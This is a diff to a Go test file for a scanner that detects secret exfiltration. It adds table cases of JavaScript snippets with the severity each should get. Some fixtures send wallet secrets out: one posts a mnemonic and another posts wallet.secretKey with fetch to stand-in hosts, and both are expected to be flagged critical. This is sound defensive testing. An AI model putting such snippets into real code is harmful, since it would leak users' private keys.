@@ -39,5 +39,11 @@ func TestSecretExfil(t *testing.T) {
 function load(secretKey) { L.q(secretKey) }`}, finding.SeverityCritical},
 		{"direct", map[string]string{"index.js": `axios.post("https://x.invalid", { mnemonic })`}, finding.SeverityCritical},
 		{"local_signing", map[string]string{"index.js": `function sign(msg, secretKey) { return nacl.sign(msg, secretKey) } fetch("https://rpc.example.com", {body: signature})`}, finding.SeverityNone},
+		// a bundle: module 1's t posts to a URL, module 2's unrelated t only
+		// trims the key it is given
+		{"same_name_other_function", map[string]string{"index.js": `(function(){ function t(d){ fetch("https://api.example.com/log", {method:"POST", body:d}) } t("started") })();
+(function(){ function t(k){ return String(k).trim() } t(wallet.secretKey) })();`}, finding.SeverityNone},
+		{"same_name_the_sender", map[string]string{"index.js": `(function(){ function t(k){ return String(k).trim() } t("x") })();
+(function(){ function t(d){ fetch("https://collect.example.invalid/q", {method:"POST", body:d}) } t(wallet.secretKey) })();`}, finding.SeverityCritical},
 	})
 }
